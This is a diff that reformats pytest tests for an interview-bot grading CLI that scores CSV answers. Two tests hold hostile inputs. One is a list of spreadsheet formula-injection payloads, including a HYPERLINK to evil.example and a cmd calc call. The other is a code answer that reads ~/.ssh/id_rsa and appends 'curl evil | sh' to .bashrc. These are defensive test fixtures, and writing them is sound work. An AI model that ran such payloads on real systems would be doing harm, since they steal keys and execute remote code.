@@ -13,10 +13,14 @@ from bot.grading import LEXICAL
 from interview_bot.cli.grade_file import grade_rows, register
 
 GIL_Q = "What is the GIL, and what does it mean for threads in CPython?"
-GIL_REF = ("The GIL is a lock that lets only one thread run Python bytecode at a time; I/O-bound "
-           "threads still help, CPU-bound work needs multiprocessing.")
-GIL_POINTS = "only one thread at a time|one thread at a time|single thread; lock|mutex; " \
-             "multiprocessing|processes"
+GIL_REF = (
+    "The GIL is a lock that lets only one thread run Python bytecode at a time; I/O-bound "
+    "threads still help, CPU-bound work needs multiprocessing."
+)
+GIL_POINTS = (
+    "only one thread at a time|one thread at a time|single thread; lock|mutex; "
+    "multiprocessing|processes"
+)
 
 
 @pytest.fixture
@@ -45,24 +49,44 @@ def read_csv(path: Path) -> list[dict[str, str]]:
 
 
 def row(answer: str, **extra: str) -> dict[str, str]:
-    return {"question": GIL_Q, "reference_answer": GIL_REF, "answer": answer,
-            "key_points": GIL_POINTS, **extra}
+    return {
+        "question": GIL_Q,
+        "reference_answer": GIL_REF,
+        "answer": answer,
+        "key_points": GIL_POINTS,
+        **extra,
+    }
 
 
 def test_grades_every_row_and_keeps_the_columns(app: typer.Typer, tmp_path: Path) -> None:
-    src = write_csv(tmp_path / "in.csv", [
-        row("A mutex: only one thread runs bytecode at a time, so use multiprocessing for CPU "
-            "work; threads are fine for I/O.", human_grade="5"),
-        row("It is a lock, so one thread at a time.", human_grade="3"),
-        row("No idea.", human_grade="0"),
-        row("", human_grade="0"),
-    ], bom=True)
+    src = write_csv(
+        tmp_path / "in.csv",
+        [
+            row(
+                "A mutex: only one thread runs bytecode at a time, so use multiprocessing for CPU "
+                "work; threads are fine for I/O.",
+                human_grade="5",
+            ),
+            row("It is a lock, so one thread at a time.", human_grade="3"),
+            row("No idea.", human_grade="0"),
+            row("", human_grade="0"),
+        ],
+        bom=True,
+    )
     out = tmp_path / "out.csv"
     res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
     assert res.exit_code == 0, res.output
     rows = read_csv(out)
-    assert list(rows[0]) == ["question", "reference_answer", "answer", "key_points",
-                             "human_grade", "score", "verdict", "feedback"]
+    assert list(rows[0]) == [
+        "question",
+        "reference_answer",
+        "answer",
+        "key_points",
+        "human_grade",
+        "score",
+        "verdict",
+        "feedback",
+    ]
     assert [r["verdict"] for r in rows] == ["correct", "partial", "wrong", "wrong"]
     assert float(rows[0]["score"]) > float(rows[1]["score"]) > float(rows[2]["score"])
     assert "Missing: multiprocessing" in rows[1]["feedback"]
@@ -71,14 +95,29 @@ def test_grades_every_row_and_keeps_the_columns(app: typer.Typer, tmp_path: Path
 
 
 def test_rows_it_cannot_grade_are_kept_and_reported(app: typer.Typer, tmp_path: Path) -> None:
-    src = write_csv(tmp_path / "in.csv", [
-        row("A lock so only one thread runs at a time.", kind="open", choices=""),
-        row("whatever", kind="essay", choices=""),
-        {"question": "", "reference_answer": "x", "answer": "y", "key_points": "",
-         "kind": "open", "choices": ""},
-        {"question": "Pick", "reference_answer": "False", "answer": "b", "key_points": "",
-         "kind": "choice", "choices": ""},
-    ])
+    src = write_csv(
+        tmp_path / "in.csv",
+        [
+            row("A lock so only one thread runs at a time.", kind="open", choices=""),
+            row("whatever", kind="essay", choices=""),
+            {
+                "question": "",
+                "reference_answer": "x",
+                "answer": "y",
+                "key_points": "",
+                "kind": "open",
+                "choices": "",
+            },
+            {
+                "question": "Pick",
+                "reference_answer": "False",
+                "answer": "b",
+                "key_points": "",
+                "kind": "choice",
+                "choices": "",
+            },
+        ],
+    )
     out = tmp_path / "out.csv"
     res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
     assert res.exit_code == 1
@@ -94,15 +133,35 @@ def test_rows_it_cannot_grade_are_kept_and_reported(app: typer.Typer, tmp_path: 
 
 def test_short_choice_and_code_rows(app: typer.Typer, tmp_path: Path) -> None:
     tests = "- {name: adds two numbers, run: 'add(2, 3)', expect: 5}\n"
-    src = write_csv(tmp_path / "in.csv", [
-        {"question": "What lock?", "reference_answer": "GIL; global interpreter lock",
-         "answer": "the Global Interpreter Lock", "kind": "short", "choices": "", "tests": ""},
-        {"question": "a is b for 5?", "reference_answer": "True", "answer": "A",
-         "kind": "choice", "choices": "True;False;TypeError", "tests": ""},
-        {"question": "Write add(a, b)", "reference_answer": "def add(a, b): return a + b",
-         "answer": "def add(a, b):\n    return a - b\n", "kind": "code", "choices": "",
-         "tests": tests},
-    ])
+    src = write_csv(
+        tmp_path / "in.csv",
+        [
+            {
+                "question": "What lock?",
+                "reference_answer": "GIL; global interpreter lock",
+                "answer": "the Global Interpreter Lock",
+                "kind": "short",
+                "choices": "",
+                "tests": "",
+            },
+            {
+                "question": "a is b for 5?",
+                "reference_answer": "True",
+                "answer": "A",
+                "kind": "choice",
+                "choices": "True;False;TypeError",
+                "tests": "",
+            },
+            {
+                "question": "Write add(a, b)",
+                "reference_answer": "def add(a, b): return a + b",
+                "answer": "def add(a, b):\n    return a - b\n",
+                "kind": "code",
+                "choices": "",
+                "tests": tests,
+            },
+        ],
+    )
     out = tmp_path / "out.csv"
     res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
     assert res.exit_code == 0, res.output
@@ -122,8 +181,9 @@ def test_a_file_without_the_columns_is_refused(app: typer.Typer, tmp_path: Path)
 
 def test_judge_flag_needs_the_endpoint(app: typer.Typer, tmp_path: Path) -> None:
     src = write_csv(tmp_path / "in.csv", [row("x")])
-    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(tmp_path / "o.csv"),
-                                   "--judge"])
+    res = CliRunner().invoke(
+        app, ["grade-file", str(src), "--out", str(tmp_path / "o.csv"), "--judge"]
+    )
     assert res.exit_code == 2 and "LLM_BASE_URL" in res.output
 
 
@@ -136,13 +196,20 @@ async def test_long_files_report_progress_and_share_rubrics() -> None:
 
 
 def test_question_id_grades_against_the_bank_rubric(app: typer.Typer, tmp_path: Path) -> None:
-    src = write_csv(tmp_path / "in.csv", [
-        {"question_id": "py-gil-open", "answer": "Only one thread runs bytecode at a time, so "
-         "CPU-bound work needs multiprocessing while I/O-bound threads still help; it does not "
-         "make your code thread-safe.", "human_grade": "5"},
-        {"question_id": "py-gil-open", "answer": "No idea.", "human_grade": "0"},
-        {"question_id": "no-such-question", "answer": "Anything.", "human_grade": "0"},
-    ])
+    src = write_csv(
+        tmp_path / "in.csv",
+        [
+            {
+                "question_id": "py-gil-open",
+                "answer": "Only one thread runs bytecode at a time, so "
+                "CPU-bound work needs multiprocessing while I/O-bound threads still help; "
+                "it does not make your code thread-safe.",
+                "human_grade": "5",
+            },
+            {"question_id": "py-gil-open", "answer": "No idea.", "human_grade": "0"},
+            {"question_id": "no-such-question", "answer": "Anything.", "human_grade": "0"},
+        ],
+    )
     out = tmp_path / "out.csv"
     res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
     assert res.exit_code == 1, res.output
@@ -153,10 +220,12 @@ def test_question_id_grades_against_the_bank_rubric(app: typer.Typer, tmp_path: 
     assert "line 4:" in res.output
 
 
-def test_an_id_the_bank_does_not_know_falls_back_to_the_row(app: typer.Typer,
-                                                             tmp_path: Path) -> None:
-    src = write_csv(tmp_path / "in.csv", [row("It is a lock: one thread at a time.",
-                                              question_id="OUR-OWN-7")])
+def test_an_id_the_bank_does_not_know_falls_back_to_the_row(
+    app: typer.Typer, tmp_path: Path
+) -> None:
+    src = write_csv(
+        tmp_path / "in.csv", [row("It is a lock: one thread at a time.", question_id="OUR-OWN-7")]
+    )
     out = tmp_path / "out.csv"
     res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
     assert res.exit_code == 0, res.output
@@ -164,8 +233,14 @@ def test_an_id_the_bank_does_not_know_falls_back_to_the_row(app: typer.Typer,
 
 
 def test_formula_cells_are_neutralised(app: typer.Typer, tmp_path: Path) -> None:
-    evil = ['=HYPERLINK("https://evil.example/?x="&A3,"score")', "+cmd|' /C calc'!A0",
-            "@SUM(1,1)", "-1+1", "\tx", "\rx"]
+    evil = [
+        '=HYPERLINK("https://evil.example/?x="&A3,"score")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1,1)",
+        "-1+1",
+        "\tx",
+        "\rx",
+    ]
     src = write_csv(tmp_path / "in.csv", [row(e) for e in evil])
     out = tmp_path / "out.csv"
     res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
@@ -175,10 +250,13 @@ def test_formula_cells_are_neutralised(app: typer.Typer, tmp_path: Path) -> None
 
 
 def test_markup_in_the_file_is_printed_as_it_is(app: typer.Typer, tmp_path: Path) -> None:
-    src = write_csv(tmp_path / "in.csv", [
-        row("It is a lock.", kind="[/oops]"),
-        row("It is a lock.", kind="[bold red]FAKE: all rows graded OK[/]"),
-    ])
+    src = write_csv(
+        tmp_path / "in.csv",
+        [
+            row("It is a lock.", kind="[/oops]"),
+            row("It is a lock.", kind="[bold red]FAKE: all rows graded OK[/]"),
+        ],
+    )
     out = tmp_path / "out.csv"
     res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
     assert res.exit_code == 1, res.output
@@ -190,8 +268,9 @@ def test_markup_in_the_file_is_printed_as_it_is(app: typer.Typer, tmp_path: Path
 
 
 def test_one_oversized_field_fails_only_its_row(app: typer.Typer, tmp_path: Path) -> None:
-    src = write_csv(tmp_path / "in.csv", [row("x" * 200_000), row("It is a lock, one thread "
-                                                                   "at a time.")])
+    src = write_csv(
+        tmp_path / "in.csv", [row("x" * 200_000), row("It is a lock, one thread at a time.")]
+    )
     out = tmp_path / "out.csv"
     res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
     assert res.exit_code == 1, res.output
@@ -204,8 +283,9 @@ def test_one_oversized_field_fails_only_its_row(app: typer.Typer, tmp_path: Path
     assert rows[1]["verdict"] in ("partial", "correct")
 
 
-def test_code_rows_cannot_reach_the_operators_files(app: typer.Typer, tmp_path: Path,
-                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+def test_code_rows_cannot_reach_the_operators_files(
+    app: typer.Typer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Review C4: grade-file ran candidates' code as the operator (it read ~/.ssh/id_rsa into
     the output and appended to ~/.bashrc). Code rows now run in the sandbox."""
     home = tmp_path / "home"
@@ -213,13 +293,24 @@ def test_code_rows_cannot_reach_the_operators_files(app: typer.Typer, tmp_path: 
     key = home / ".ssh" / "id_rsa"
     key.write_text("-----BEGIN FAKE PRIVATE KEY-----\n")
     monkeypatch.setenv("HOME", str(home))
-    steal = (f"def add(a, b):\n    try:\n        return open({str(key)!r}).read()\n"
-             f"    except OSError as e:\n        return str(e)\n"
-             f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh')\n")
-    src = write_csv(tmp_path / "in.csv", [
-        {"question": "Write add(a, b)", "reference_answer": "def add(a, b): return a + b",
-         "answer": steal, "kind": "code", "choices": "",
-         "tests": "- {name: adds, run: 'add(2, 3)', expect: 5}\n"}])
+    steal = (
+        f"def add(a, b):\n    try:\n        return open({str(key)!r}).read()\n"
+        f"    except OSError as e:\n        return str(e)\n"
+        f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh')\n"
+    )
+    src = write_csv(
+        tmp_path / "in.csv",
+        [
+            {
+                "question": "Write add(a, b)",
+                "reference_answer": "def add(a, b): return a + b",
+                "answer": steal,
+                "kind": "code",
+                "choices": "",
+                "tests": "- {name: adds, run: 'add(2, 3)', expect: 5}\n",
+            }
+        ],
+    )
     out = tmp_path / "out.csv"
     res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
     assert res.exit_code == 0, res.output
